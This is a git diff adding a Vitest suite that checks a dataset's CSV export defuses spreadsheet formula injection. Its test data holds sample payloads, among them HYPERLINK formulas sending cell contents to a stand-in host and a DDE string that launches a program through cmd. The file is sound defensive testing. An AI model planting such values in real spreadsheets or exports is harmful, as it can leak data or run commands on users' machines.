@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import {
   csvPathOf,
@@ -240,5 +241,47 @@ describe('nothing in a CSV is lost without a word', () => {
       });
       expect(fixed.rowOfObservation).toEqual([2, 4]);
     }
+  });
+});
+
+describe('the whole-data CSV is safe to open in Excel', () => {
+  // Text an import could bring: formulas, some across lines (PapaParse's own escape missed those).
+  const hostile = [
+    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
+    '=HYPERLINK("http://x.example",\n"hai dòng")',
+    '+1\n=2+3',
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1+9)',
+    '\t=1+1',
+  ];
+  const withHostileText = {
+    ...dataset,
+    observations: dataset.observations.map((obs, index) => ({
+      ...obs,
+      quote: hostile[index % hostile.length] ?? obs.quote,
+    })),
+    sources: dataset.sources.map((source, index) => ({
+      ...source,
+      title: hostile[(index + 1) % hostile.length] ?? source.title,
+    })),
+  };
+  const csv = datasetToCsv(withHostileText);
+  const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';' }).data.flat();
+
+  it('writes no cell that a spreadsheet would run as a formula', () => {
+    const live = cells.filter(
+      (cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d[\d.,]*(?:\s?%)?$/.test(cell),
+    );
+    expect(live).toEqual([]);
+    // Each hostile text is there, behind its apostrophe.
+    for (const text of hostile) expect(cells).toContain(`'${text}`);
+  });
+
+  it('reads its own file back to the same text', () => {
+    const read = readDatasetCsv(csv, withHostileText);
+    if (!read.ok) throw new Error(JSON.stringify(read.problems));
+    expect(read.dataset.observations.map((obs) => obs.quote)).toEqual(
+      withHostileText.observations.map((obs) => obs.quote),
+    );
   });
 });
